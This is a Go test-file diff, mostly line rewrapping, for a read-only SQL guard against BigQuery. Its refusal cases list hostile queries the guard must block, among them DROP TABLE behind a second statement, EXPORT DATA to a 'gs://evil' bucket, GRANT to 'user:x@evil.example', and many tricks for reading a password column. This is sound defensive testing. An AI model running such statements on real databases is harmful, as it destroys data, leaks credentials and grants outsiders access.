@@ -32,7 +32,8 @@ const (
 )
 
 func metaView(query string) string {
-	return fmt.Sprintf(`{"type": "VIEW", "view": {"query": %q, "useLegacySql": false}, "schema": {"fields": [{"name": "id", "type": "INTEGER"}]}}`, query)
+	return fmt.Sprintf(
+		`{"type": "VIEW", "view": {"query": %q, "useLegacySql": false}, "schema": {"fields": [{"name": "id", "type": "INTEGER"}]}}`, query)
 }
 
 // hostileFake has tables, views and a dataset of another project. Every statement that comes to a job has one row.
@@ -42,14 +43,15 @@ func hostileFake(t testing.TB) *fake {
 	f.mentions = []string{}
 	in := project + "." + home + "."
 	for name, meta := range map[string]string{
-		in + "t": metaT, in + "users": metaUsers, in + "keys": metaKeys, "public-project.pub.cities": metaT, project + ".hidden.t": metaT,
-		in + "v_ok":   metaView("SELECT id, name FROM " + home + ".users"),
-		in + "v_pw":   metaView("SELECT id, password AS pw FROM `" + in + "users`"),
-		in + "v_star": metaView("SELECT * FROM " + home + ".users"),
-		in + "v_ml":   metaView("SELECT id FROM ML.PREDICT(MODEL d.m, (SELECT 1))"),
-		in + "v_fn":   metaView("SELECT " + home + ".remote(id) AS id FROM " + home + ".users"),
-		in + "v_out":  metaView("SELECT a AS id FROM hidden.t"),
-		in + "v_deep": metaView("SELECT id FROM " + home + ".v_pw"),
+		in + "t": metaT, in + "users": metaUsers, in + "keys": metaKeys, "public-project.pub.cities": metaT,
+		project + ".hidden.t": metaT,
+		in + "v_ok":           metaView("SELECT id, name FROM " + home + ".users"),
+		in + "v_pw":           metaView("SELECT id, password AS pw FROM `" + in + "users`"),
+		in + "v_star":         metaView("SELECT * FROM " + home + ".users"),
+		in + "v_ml":           metaView("SELECT id FROM ML.PREDICT(MODEL d.m, (SELECT 1))"),
+		in + "v_fn":           metaView("SELECT " + home + ".remote(id) AS id FROM " + home + ".users"),
+		in + "v_out":          metaView("SELECT a AS id FROM hidden.t"),
+		in + "v_deep":         metaView("SELECT id FROM " + home + ".v_pw"),
 		in + "v_legacy": `{"type": "VIEW", "view": {"query": "SELECT id FROM [d.users]", "useLegacySql": true},
  "schema": {"fields": [{"name": "id", "type": "INTEGER"}]}}`,
 		in + "m":      `{"type": "MODEL"}`,
@@ -78,7 +80,8 @@ var refusals = []struct {
 	sql    string
 }{
 	{"a second statement", open, "several-statements", "SELECT 1; DROP TABLE t"},
-	{"a second statement behind a comment", open, "several-statements", "SELECT 1 /* x */ ; # y\n DELETE FROM t WHERE true"},
+	{"a second statement behind a comment", open, "several-statements",
+		"SELECT 1 /* x */ ; # y\n DELETE FROM t WHERE true"},
 	{"DML", open, "not-read-only", "DELETE FROM t WHERE true"},
 	{"DML behind a comment of #", open, "not-read-only", "# SELECT 1\nDELETE FROM t WHERE true"},
 	{"INSERT", open, "not-read-only", "INSERT INTO t (a) VALUES (1)"},
@@ -89,22 +92,30 @@ var refusals = []struct {
 	{"a table over one", open, "not-read-only", "CREATE OR REPLACE TABLE t AS SELECT 1 AS a"},
 	{"a temporary table", open, "not-read-only", "CREATE TEMP TABLE x AS SELECT 1 AS a"},
 	{"a snapshot", open, "not-read-only", "CREATE SNAPSHOT TABLE x CLONE t"},
-	{"a function, which a script may call", open, "several-statements", "CREATE TEMP FUNCTION f(x INT64) AS (x); SELECT f(1)"},
-	{"a function in JavaScript", open, "not-read-only", "CREATE FUNCTION d.f(x INT64) RETURNS INT64 LANGUAGE js AS 'return x'"},
-	{"a remote function", open, "not-read-only", "CREATE FUNCTION d.f(x INT64) RETURNS INT64 REMOTE WITH CONNECTION us.c OPTIONS (endpoint = 'https://x')"},
+	{"a function, which a script may call", open, "several-statements",
+		"CREATE TEMP FUNCTION f(x INT64) AS (x); SELECT f(1)"},
+	{"a function in JavaScript", open, "not-read-only",
+		"CREATE FUNCTION d.f(x INT64) RETURNS INT64 LANGUAGE js AS 'return x'"},
+	{"a remote function", open, "not-read-only", "CREATE FUNCTION d.f(x INT64) RETURNS INT64 REMOTE " +
+		"WITH CONNECTION us.c OPTIONS (endpoint = 'https://x')"},
 	{"a table function", open, "not-read-only", "CREATE TABLE FUNCTION d.f() AS SELECT 1 AS a"},
 	{"a procedure", open, "several-statements", "CREATE PROCEDURE d.p() BEGIN SELECT 1; END"},
-	{"a model, which costs money", open, "not-read-only", "CREATE MODEL d.m OPTIONS (model_type = 'linear_reg') AS SELECT 1 AS label"},
-	{"a remote model", open, "not-read-only", "CREATE MODEL d.m REMOTE WITH CONNECTION us.c OPTIONS (endpoint = 'gemini-pro')"},
-	{"a policy of rows", open, "not-read-only", "CREATE ROW ACCESS POLICY p ON t GRANT TO ('user:x@evil.example') FILTER USING (true)"},
+	{"a model, which costs money", open, "not-read-only",
+		"CREATE MODEL d.m OPTIONS (model_type = 'linear_reg') AS SELECT 1 AS label"},
+	{"a remote model", open, "not-read-only", "CREATE MODEL d.m REMOTE WITH CONNECTION us.c OPTIONS (endpoint = " +
+		"'gemini-pro')"},
+	{"a policy of rows", open, "not-read-only", "CREATE ROW ACCESS POLICY p ON t GRANT TO ('user:x@evil.example') " +
+		"FILTER USING (true)"},
 	{"a dataset", open, "not-read-only", "CREATE SCHEMA other"},
 	{"DROP", open, "not-read-only", "DROP TABLE t"},
 	{"DROP of a dataset", open, "not-read-only", "DROP SCHEMA suite_data CASCADE"},
 	{"UNDROP", open, "not-read-only", "UNDROP SCHEMA d"},
 	{"ALTER", open, "not-read-only", "ALTER TABLE t ADD COLUMN c INT64"},
 	{"rights", open, "not-read-only", "GRANT `roles/bigquery.dataOwner` ON SCHEMA suite_data TO 'user:x@evil.example'"},
-	{"rights taken", open, "not-read-only", "REVOKE `roles/bigquery.dataViewer` ON SCHEMA suite_data FROM 'user:x@evil.example'"},
-	{"rows leave the project", open, "not-read-only", "EXPORT DATA OPTIONS (uri = 'gs://evil/*.csv', format = 'CSV') AS SELECT * FROM users"},
+	{"rights taken", open, "not-read-only", "REVOKE `roles/bigquery.dataViewer` ON SCHEMA suite_data " +
+		"FROM 'user:x@evil.example'"},
+	{"rows leave the project", open, "not-read-only",
+		"EXPORT DATA OPTIONS (uri = 'gs://evil/*.csv', format = 'CSV') AS SELECT * FROM users"},
 	{"files come in", open, "not-read-only", "LOAD DATA INTO t FROM FILES (format = 'CSV', uris = ['gs://evil/x.csv'])"},
 	{"a transaction", open, "not-read-only", "BEGIN TRANSACTION"},
 	{"COMMIT", open, "not-read-only", "COMMIT TRANSACTION"},
@@ -131,13 +142,16 @@ var refusals = []struct {
 	{"a named parameter", open, "placeholder", "SELECT @x"},
 	{"a positional parameter", open, "placeholder", "SELECT ?"},
 	{"a system variable", open, "placeholder", "SELECT @@project_id"},
-	{"EXTERNAL_QUERY sends text to another database", open, "function", "SELECT * FROM EXTERNAL_QUERY('us.conn', 'DELETE FROM t')"},
+	{"EXTERNAL_QUERY sends text to another database", open, "function",
+		"SELECT * FROM EXTERNAL_QUERY('us.conn', 'DELETE FROM t')"},
 	{"the same in small letters and quotes", open, "function", "SELECT * FROM `external_query`('us.conn', 'SELECT 1')"},
 	{"the same in a subquery", open, "function", "SELECT (SELECT max(a) FROM EXTERNAL_QUERY('us.conn', 'SELECT 1 AS a'))"},
-	{"the same behind a WITH", open, "function", "WITH x AS (SELECT * FROM EXTERNAL_QUERY('us.conn', 'SELECT 1')) SELECT * FROM x"},
+	{"the same behind a WITH", open, "function", "WITH x AS (SELECT * FROM EXTERNAL_QUERY('us.conn', 'SELECT 1')) " +
+		"SELECT * FROM x"},
 	{"the same behind a pipe", open, "function", "FROM EXTERNAL_QUERY('us.conn', 'SELECT 1') |> SELECT 1"},
 	{"a model predicts", open, "function", "SELECT * FROM ML.PREDICT(MODEL d.m, (SELECT * FROM users))"},
-	{"a model writes text", open, "function", "SELECT * FROM ML.GENERATE_TEXT(MODEL d.llm, (SELECT password AS prompt FROM users))"},
+	{"a model writes text", open, "function", "SELECT * FROM ML.GENERATE_TEXT(MODEL d.llm, (SELECT password AS prompt " +
+		"FROM users))"},
 	{"with a table for a query", open, "function", "SELECT * FROM ML.PREDICT(MODEL d.m, TABLE t)"},
 	{"a function of AI", open, "function", "SELECT AI.GENERATE('say', connection_id => 'us.c').result"},
 	{"a condition of AI", open, "function", "SELECT a FROM t WHERE AI.IF(b, connection_id => 'us.c')"},
@@ -189,7 +203,8 @@ var refusals = []struct {
 	{"a wildcard over the dataset", open, "table", "SELECT * FROM `shop-project.suite_data.*`"},
 	{"a partition by its decorator", open, "table", "SELECT * FROM `suite_data.t$20240101`"},
 	{"the past by a decorator", open, "table", "SELECT * FROM `suite_data.t@-3600000`"},
-	{"the past", open, "statement", "SELECT * FROM t FOR SYSTEM_TIME AS OF TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 1 HOUR)"},
+	{"the past", open, "statement", "SELECT * FROM t FOR SYSTEM_TIME AS OF TIMESTAMP_SUB(CURRENT_TIMESTAMP(), " +
+		"INTERVAL 1 HOUR)"},
 	{"a dataset that is not in the Config", open, "table", "SELECT * FROM hidden.t"},
 	{"one of another project", open, "table", "SELECT * FROM `other-project.d.t`"},
 	{"behind a comma", open, "table", "SELECT 1 FROM t, hidden.t"},
@@ -207,7 +222,8 @@ var refusals = []struct {
 	{"a lock", open, "not-read-only", "SELECT a FROM t FOR UPDATE"},
 	{"a type as a select", open, "statement", "SELECT AS d.message 1 AS x"},
 	{"a graph", open, "syntax", "SELECT * FROM GRAPH_TABLE(d.g MATCH (n) RETURN n.id)"},
-	{"rows that match a pattern", open, "statement", "SELECT * FROM t MATCH_RECOGNIZE(ORDER BY a MEASURES max(x.a) AS m PATTERN (x) DEFINE x AS true)"},
+	{"rows that match a pattern", open, "statement",
+		"SELECT * FROM t MATCH_RECOGNIZE(ORDER BY a MEASURES max(x.a) AS m PATTERN (x) DEFINE x AS true)"},
 	{"legacy SQL", open, "syntax", "SELECT a FROM [shop-project:suite_data.t]"},
 	{"an escape in a name", open, "guard", "SELECT `pass\\x77ord` FROM users"},
 	{"over fifty tables", open, "too-complex", "SELECT 1 FROM t" + strings.Repeat(", t", 51)},
@@ -227,7 +243,8 @@ var refusals = []struct {
 	{"a star with a replacement", noPass, "column", "SELECT * REPLACE (1 AS id) FROM users"},
 	{"the star of an alias", noPass, "column", "SELECT u.* EXCEPT (name) FROM users AS u"},
 	{"a star in a struct", noPass, "column", "SELECT AS STRUCT * FROM users"},
-	{"the exception is of another table", noPass, "column", "SELECT k.* EXCEPT (password), u.* FROM keys AS k, users AS u"},
+	{"the exception is of another table", noPass, "column",
+		"SELECT k.* EXCEPT (password), u.* FROM keys AS k, users AS u"},
 	{"a pipe that gives all", noPass, "column", "FROM users"},
 	{"a pipe with a condition", noPass, "column", "FROM users |> WHERE id = 1"},
 	{"a star in a pipe", noPass, "column", "FROM users |> SELECT *"},
@@ -248,7 +265,8 @@ var refusals = []struct {
 	{"GROUP BY ALL", noPass, "column", "SELECT password, count(*) FROM users GROUP BY ALL"},
 	{"another field of the record's star", noDoor, "column", "SELECT address.* EXCEPT (city) FROM t AS address, users"},
 	{"a table whose columns are not told", noPass, "table", "SELECT * FROM lake"},
-	{"QUALIFY behind a WHERE", noPass, "column", "SELECT id FROM users WHERE true QUALIFY row_number() OVER (ORDER BY password) = 1"},
+	{"QUALIFY behind a WHERE", noPass, "column", "SELECT id FROM users WHERE true QUALIFY row_number() OVER (ORDER BY " +
+		"password) = 1"},
 	{"QUALIFY", noPass, "column", "SELECT id FROM users QUALIFY row_number() OVER (ORDER BY password) = 1"},
 	{"an aggregate by its HAVING", noPass, "column", "SELECT any_value(name HAVING MAX password) FROM users"},
 	{"the order of an aggregate", noPass, "column", "SELECT string_agg(name ORDER BY password) FROM users"},
@@ -258,10 +276,13 @@ var refusals = []struct {
 	{"another column of that view", noPass, "table", "SELECT id FROM v_pw"},
 	{"a view of the view", noPass, "table", "SELECT id FROM v_deep"},
 	{"a view of a star", noPass, "table", "SELECT id FROM v_star"},
-	{"in a recursive query", noPass, "column", "WITH RECURSIVE r AS (SELECT password AS p FROM users UNION ALL SELECT p FROM r) SELECT p FROM r"},
-	{"behind a common table expression of its name", noPass, "column", "WITH x AS (SELECT * FROM users), users AS (SELECT 1 AS password) SELECT * FROM x"},
+	{"in a recursive query", noPass, "column", "WITH RECURSIVE r AS (SELECT password AS p FROM users UNION ALL SELECT p " +
+		"FROM r) SELECT p FROM r"},
+	{"behind a common table expression of its name", noPass, "column",
+		"WITH x AS (SELECT * FROM users), users AS (SELECT 1 AS password) SELECT * FROM x"},
 	{"sampled", noPass, "column", "SELECT password FROM users TABLESAMPLE SYSTEM (10 PERCENT)"},
-	{"by tabledata.list", noPass, "column", "SELECT /* tabledata.list */ t.`password` FROM `suite_data`.`users` AS t LIMIT 5"},
+	{"by tabledata.list", noPass, "column", "SELECT /* tabledata.list */ t.`password` FROM `suite_data`.`users` AS t " +
+		"LIMIT 5"},
 	{"with its dataset", noPass, "column", "SELECT users.password FROM `shop-project`.suite_data.users"},
 	{"a set operation", noPass, "column", "SELECT id FROM users EXCEPT DISTINCT SELECT length(password) FROM users"},
 	{"IN", noPass, "column", "SELECT 1 FROM t WHERE b IN (SELECT password FROM users)"},
@@ -306,22 +327,27 @@ var harmless = []struct {
 	{"a table whose name looks like a shard", open, "SELECT a FROM t_2024"},
 	{"a view", open, "SELECT id FROM v_ok"},
 	{"a pipe", open, "FROM t |> WHERE a > 1 |> AGGREGATE sum(a) AS s GROUP BY b |> ORDER BY s DESC |> LIMIT 5"},
-	{"an array of structs opened", open, "SELECT u.name, o.sku, o.price FROM users AS u, UNNEST(u.orders) AS o WITH OFFSET AS i WHERE i = 0"},
+	{"an array of structs opened", open, "SELECT u.name, o.sku, o.price FROM users AS u, UNNEST(u.orders) AS o " +
+		"WITH OFFSET AS i WHERE i = 0"},
 	{"an array as a table", open, "SELECT o.sku FROM users AS u, u.orders AS o"},
 	{"a correlated array", open, "SELECT name, (SELECT sum(o.price) FROM u.orders AS o) FROM users AS u"},
 	{"fields of a record", open, "SELECT address.city, u.address.door FROM users AS u"},
-	{"dates", open, "SELECT DATE_TRUNC(CURRENT_DATE(), MONTH), EXTRACT(YEAR FROM DATE '2020-05-01'), DATE_ADD(DATE '2020-05-01', INTERVAL 1 DAY)"},
+	{"dates", open, "SELECT DATE_TRUNC(CURRENT_DATE(), MONTH), EXTRACT(YEAR FROM DATE '2020-05-01'), " +
+		"DATE_ADD(DATE '2020-05-01', INTERVAL 1 DAY)"},
 	{"a window and QUALIFY", open, "SELECT a, rank() OVER (PARTITION BY b ORDER BY a DESC) AS r FROM t QUALIFY r = 1"},
 	{"a window with a frame", open, "SELECT sum(a) OVER (ORDER BY a ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM t"},
 	{"SAFE", open, "SELECT SAFE.PARSE_DATE('%F', b), SAFE_CAST(b AS INT64), SAFE_DIVIDE(a, 0) FROM t"},
 	{"NET and HLL", open, "SELECT NET.HOST(b), HLL_COUNT.EXTRACT(HLL_COUNT.INIT(b)) FROM t GROUP BY b"},
-	{"strings", open, `SELECT REGEXP_EXTRACT(b, r'^\d+;'), SPLIT(b, ',')[SAFE_OFFSET(0)], FORMAT('%t', a), b LIKE '%x%' FROM t`},
+	{"strings", open,
+		`SELECT REGEXP_EXTRACT(b, r'^\d+;'), SPLIT(b, ',')[SAFE_OFFSET(0)], FORMAT('%t', a), b LIKE '%x%' FROM t`},
 	{"JSON", open, `SELECT JSON_VALUE(JSON '{"a": 1}', '$.a'), TO_JSON_STRING(STRUCT(1 AS a))`},
-	{"aggregates", open, "SELECT APPROX_COUNT_DISTINCT(a), STRING_AGG(b, ',' ORDER BY a LIMIT 3), COUNTIF(a > 1), ARRAY_AGG(a IGNORE NULLS) FROM t"},
+	{"aggregates", open, "SELECT APPROX_COUNT_DISTINCT(a), STRING_AGG(b, ',' ORDER BY a LIMIT 3), COUNTIF(a > 1), " +
+		"ARRAY_AGG(a IGNORE NULLS) FROM t"},
 	{"a pivot", open, "SELECT * FROM (SELECT a, b FROM t) PIVOT (count(*) FOR b IN ('x' AS x, 'y' AS y))"},
 	{"an unpivot", open, "SELECT * FROM t UNPIVOT (v FOR k IN (a))"},
 	{"set operations", open, "SELECT a FROM t UNION DISTINCT SELECT 1 INTERSECT DISTINCT SELECT 2"},
-	{"a recursive query", open, "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT max(n) FROM r"},
+	{"a recursive query", open, "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 5) " +
+		"SELECT max(n) FROM r"},
 	{"grouping sets", open, "SELECT a, b, count(*) FROM t GROUP BY GROUPING SETS ((a), (b), ())"},
 	{"ROLLUP", open, "SELECT a, b, count(*) FROM t GROUP BY ROLLUP (a, b)"},
 	{"geography", open, "SELECT ST_DISTANCE(ST_GEOGPOINT(1, 2), ST_GEOGFROMTEXT('POINT(1 2)'))"},
@@ -329,7 +355,8 @@ var harmless = []struct {
 	{"an escaped quote", open, `SELECT 'it\'s' AS s`},
 	{"a sample", open, "SELECT a FROM t TABLESAMPLE SYSTEM (10 PERCENT)"},
 	{"LIKE ANY", open, "SELECT a FROM t WHERE b LIKE ANY ('a%', 'b%')"},
-	{"CASE, IF, COALESCE", open, "SELECT CASE a WHEN 1 THEN 'x' ELSE 'y' END, IF(a > 1, 1, 2), COALESCE(b, ''), NULLIF(a, 0) FROM t"},
+	{"CASE, IF, COALESCE", open, "SELECT CASE a WHEN 1 THEN 'x' ELSE 'y' END, IF(a > 1, 1, 2), COALESCE(b, ''), " +
+		"NULLIF(a, 0) FROM t"},
 	{"a struct by its type", open, "SELECT STRUCT<x INT64, y STRING>(1, 'a').y"},
 	{"generated rows", open, "SELECT d FROM UNNEST(GENERATE_DATE_ARRAY('2020-01-01', '2020-01-31')) AS d"},
 	{"a correlated EXISTS", open, "SELECT name FROM users AS u WHERE EXISTS (SELECT 1 FROM t WHERE t.a = u.id)"},
@@ -337,7 +364,8 @@ var harmless = []struct {
 	{"a left join with USING", open, "SELECT name FROM users LEFT JOIN keys USING (id)"},
 	{"a quoted name of an output", open, "SELECT a AS `total price` FROM t ORDER BY `total price`"},
 	{"a star without what is denied", noPass, "SELECT * EXCEPT (password) FROM users"},
-	{"the star of an alias without it", noPass, "SELECT u.* EXCEPT (PASSWORD), k.password FROM users AS u JOIN keys AS k ON k.id = u.id"},
+	{"the star of an alias without it", noPass, "SELECT u.* EXCEPT (PASSWORD), k.password FROM users AS u " +
+		"JOIN keys AS k ON k.id = u.id"},
 	{"a pipe that names its columns", noPass, "FROM users |> WHERE id > 1 |> SELECT name, address.city"},
 	{"a pipe that counts", noPass, "FROM users |> AGGREGATE count(*) AS n GROUP BY name"},
 	{"a pipe that goes on behind its columns", noPass, "FROM users |> SELECT name |> RENAME name AS n |> DISTINCT"},
@@ -360,7 +388,8 @@ func TestHostile(t *testing.T) {
 	db := func(p exec.Policy) *exec.DB {
 		key := fmt.Sprint(p)
 		if dbs[key] == nil {
-			made := dbtest.NewDB(t, pool, bq.Dialect{}, exec.Config{Policy: p, Limits: exec.Limits{Answer: exec.Bounds{Timeout: time.Minute}}})
+			made := dbtest.NewDB(t, pool, bq.Dialect{},
+				exec.Config{Policy: p, Limits: exec.Limits{Answer: exec.Bounds{Timeout: time.Minute}}})
 			dbs[key] = made
 		}
 		return dbs[key]
@@ -399,7 +428,8 @@ func TestPayloads(t *testing.T) {
 	for _, name := range []string{"t", "users"} {
 		f.tables["p.d."+name] = f.tables[project+"."+home+"."+name]
 	}
-	client, err := bigquery.NewClient(context.Background(), "p", option.WithEndpoint(f.server.URL), option.WithoutAuthentication())
+	client, err := bigquery.NewClient(context.Background(), "p", option.WithEndpoint(f.server.URL),
+		option.WithoutAuthentication())
 	if err != nil {
 		t.Fatal(err)
 	}
